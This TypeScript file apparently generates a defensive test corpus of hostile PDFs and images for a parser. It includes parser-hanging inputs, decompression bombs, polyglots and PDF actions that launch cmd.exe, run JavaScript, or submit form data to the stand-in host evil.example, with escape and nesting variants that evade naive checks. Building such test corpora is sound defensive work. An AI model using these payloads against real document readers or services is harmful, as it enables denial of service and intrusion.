import { deflateSync } from 'node:zlib'
import { bomb, type HostileFile, jpeg, latin1, pdf, png } from './hostile-file.ts'
import { hostilePdfs } from './hostile-pdfs.ts'
import { hostilePictures } from './hostile-pictures.ts'
import { aJpeg, aPdf, aPng } from './sample-files.ts'

const skeleton = `1 0 obj
<< /Type /Catalog /Pages 2 0 R /Extra 9 0 R >>
endobj
2 0 obj
<< /Type /Pages /Kids [3 0 R] /Count 1 >>
endobj
3 0 obj
<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>
endobj
`
const end = 'trailer\n<< /Root 1 0 R /Size 20 >>\nstartxref\n9\n%%EOF\n'
const around = (middle: string | Buffer, trailer = end) =>
  Buffer.concat([latin1(`%PDF-1.7\n${skeleton}`), Buffer.from(middle as string, 'latin1'), latin1(`\n${trailer}`)])

function stream(number: number, entries: string, bytes: Buffer): Buffer {
  const head = latin1(`${number} 0 obj\n<< ${entries} /Length ${bytes.length} >>\nstream\n`)
  return Buffer.concat([head, bytes, latin1('\nendstream\nendobj\n')])
}

const packed = '/Filter /FlateDecode'
const box = (text: string) => deflateSync(latin1(`9 0 ${text}`))
const sizes = [10_000, 100_000, 1_000_000, 4_900_000]
const sized = (unit: string, size: number) => unit.repeat(Math.floor(size / unit.length))

/** Content that makes a careless parser backtrack or recurse endlessly. Some of it is a valid file all the same. */
const repeated: Record<string, string> = {
  'numbers and comments': '1%',
  'numbers and comments with ends': '1%\n',
  numbers: '1 ',
  'heads without an object': '1 0 ',
  'heads that nearly are': '1 0 ob ',
  'objects that never end': '1 0 obj ',
  'open dictionaries': '<<',
  'open dictionaries with names': '<</A',
  'open lists': '[',
  'open strings': '(',
  'open strings with escapes': '(\\',
  'open hexadecimal strings': '<4',
  'half escapes': '/A#',
  'streams without an end': 'stream\n',
  'ends without a stream': 'endstream endobj ',
  'trailers that are open': 'trailer <<',
  'tables that are open': 'xref 0 ',
}

const quadratic = Object.entries(repeated).flatMap(([name, unit]) =>
  sizes.map((size) => pdf(`${name}, ${size} bytes`, () => around(`9 0 obj\n${sized(unit, size)}\nendobj`), false)),
)
const bare = Object.entries(repeated).map(([name, unit]) =>
  pdf(`nothing but ${name}`, () => latin1(`%PDF-1.7\n${sized(unit, 200_000)}`)),
)

const acts: Record<string, string> = {
  JavaScript: '<< /S /JavaScript /JS (app.alert(1)) >>',
  Launch: '<< /S /Launch /F (cmd.exe) >>',
  SubmitForm: '<< /S /SubmitForm /F (https://evil.example) >>',
  ImportData: '<< /S /ImportData /F (a.fdf) >>',
  GoToE: '<< /S /GoToE /T << /R /C >> >>',
  RichMedia: '<< /Type /Annot /Subtype /RichMedia >>',
  XFA: '<< /XFA [(a) 8 0 R] >>',
  EmbeddedFiles: '<< /EmbeddedFiles << /Names [] >> >>',
}
const lower = (text: string) =>
  text.replace(/\/([A-Z])/g, (_, letter: string) => `/#${letter.charCodeAt(0).toString(16)}`)
const active = Object.entries(acts).flatMap(([name, act]) => [
  pdf(`${name}, as it is`, () => around(`9 0 obj\n${act}\nendobj`)),
  pdf(`${name}, with escapes`, () => around(`9 0 obj\n${lower(act)}\nendobj`)),
  pdf(`${name}, in an object stream`, () => around(stream(8, `/Type /ObjStm /N 1 /First 4 ${packed}`, box(act)))),
  pdf(`${name}, in one that is packed twice`, () =>
    around(stream(8, '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(box(act)))),
  ),
  pdf(`${name}, on opening`, () => around(`9 0 obj\n<< /OpenAction ${act} >>\nendobj`)),
  pdf(`${name}, in a revision that is replaced`, () => around(`9 0 obj\n${act}\nendobj\n9 0 obj\n<< >>\nendobj`)),
])

const bombs = [
  pdf('an object stream that swells to 70 MB', () =>
    around(stream(8, `/Type /ObjStm /N 1 /First 4 ${packed}`, bomb())),
  ),
  pdf('a table that swells to 70 MB', () => around(stream(8, `/Type /XRef /W [1 2 1] /Size 9 ${packed}`, bomb()))),
  pdf('a stream that claims a million objects', () =>
    around(stream(8, `/Type /ObjStm /N 1000000 /First 4 ${packed}`, box('<< >>'))),
  ),
  pdf('a packed page that swells, and stays packed', () => around(stream(8, packed, bomb())), false),
  pdf(
    'a length that is its own object',
    () => around('9 0 obj\n<< /Length 9 0 R >>\nstream\nx\nendstream\nendobj'),
    false,
  ),
  pdf(
    'a tree of pages that is a ring',
    () => around('2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 9 >>\nendobj'),
    false,
  ),
  pdf(
    'a table that comes before itself',
    () =>
      around('', 'xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 1 /Prev 9 >>\nstartxref\n9\n%%EOF\n'),
    false,
  ),
  pdf(
    '200,000 small objects',
    () => around(Array.from({ length: 200_000 }, (_, index) => `${index + 10} 0 obj\n1\nendobj`).join('\n')),
    false,
  ),
  pdf('100,000 references in one list', () => around(`9 0 obj\n[${'1 0 R '.repeat(100_000)}]\nendobj`), false),
  pdf('a name of a million letters', () => around(`9 0 obj\n/${'A'.repeat(1_000_000)}\nendobj`), false),
]

const locked = [
  pdf('a password', () => aPdf({ password: 'secret' })),
  ...['9 0 R', '<< /Filter /Standard /V 1 >>', '<< /Filter /Adobe.PubSec >>'].map((how) =>
    pdf(`encrypted by ${how}`, () => around('', `trailer\n<< /Root 1 0 R /Encrypt ${how} >>\nstartxref\n9\n%%EOF\n`)),
  ),
]

const fronts = { ZIP: 'PK\u0003\u0004', HTML: '<html>', EXE: 'MZ\u0090', GIF: 'GIF89a', RAR: 'Rar!', empty: '\n' }
const polyglots = [
  ...Object.entries(fronts).map(([name, front]) =>
    pdf(`behind the head of ${name}`, async () => Buffer.concat([latin1(front), await aPdf()])),
  ),
  jpeg('a PDF with another name', () => aPdf()),
  png('a JPEG with another name', () => aJpeg()),
  jpeg('a page of HTML', () => latin1('\u00ff\u00d8\u00ff\u00e0<script>alert(1)</script>')),
  pdf('a JPEG behind its mark', async () => Buffer.concat([latin1('%PDF-1.7\n'), await aJpeg()])),
  jpeg('a ZIP behind it', async () => Buffer.concat([await aJpeg(), latin1('PK\u0003\u0004')]), false),
  png('a script behind it', async () => Buffer.concat([await aPng(), latin1('<script>')]), false),
]

/** A repeatable random sequence. */
function random(seed: number): () => number {
  let state = seed
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return state / 2 ** 32
  }
}

const noise = (length: number, seed: number) => {
  const next = random(seed)
  return Buffer.from(Array.from({ length }, () => Math.floor(next() * 256)))
}

function damaged(bytes: Uint8Array, seed: number): Buffer {
  const next = random(seed)
  const copy = Buffer.from(bytes)
  for (let hit = 0; hit < 20; hit += 1) copy[16 + Math.floor(next() * (copy.length - 16))] = Math.floor(next() * 256)
  return copy
}

const shares = [0.02, 0.1, 0.25, 0.5, 0.75, 0.9]
const cut = (bytes: Uint8Array, share: number) => bytes.subarray(0, Math.ceil(bytes.length * share))
const large = { width: 900, height: 700 }
const broken = [
  ...shares.map((share) => pdf(`cut at ${share}`, async () => cut(await aPdf({ pages: 9 }), share), share < 0.6)),
  ...shares.map((share) => jpeg(`cut at ${share}`, async () => cut(await aJpeg(large), share))),
  ...shares.map((share) => png(`cut at ${share}`, async () => cut(await aPng(large), share))),
  ...[1, 2, 3, 4, 5, 6, 7, 8, 9, 10].flatMap((seed) => [
    pdf(`damaged, ${seed}`, async () => damaged(await aPdf({ pages: 3 }), seed), false),
    jpeg(`damaged, ${seed}`, async () => damaged(await aJpeg(large), seed), false),
    png(`damaged, ${seed}`, async () => damaged(await aPng(large), seed), false),
    pdf(`noise, ${seed}`, () => Buffer.concat([latin1('%PDF-1.7\n'), noise(50_000 * seed, seed)])),
    jpeg(`noise, ${seed}`, () => Buffer.concat([latin1('\u00ff\u00d8\u00ff'), noise(20_000 * seed, seed)])),
    png(`noise, ${seed}`, () => Buffer.concat([latin1('\u0089PNG\r\n\u001a\n'), noise(20_000 * seed, seed)])),
  ]),
]

const known = Object.entries(hostilePdfs).map(([name, make]) => pdf(name, make))

/** More than 300 files, the same every time. */
export const hostileFiles: readonly HostileFile[] = [
  ...[...quadratic, ...bare, ...active, ...bombs, ...locked, ...known],
  ...[...polyglots, ...broken, ...hostilePictures],
]
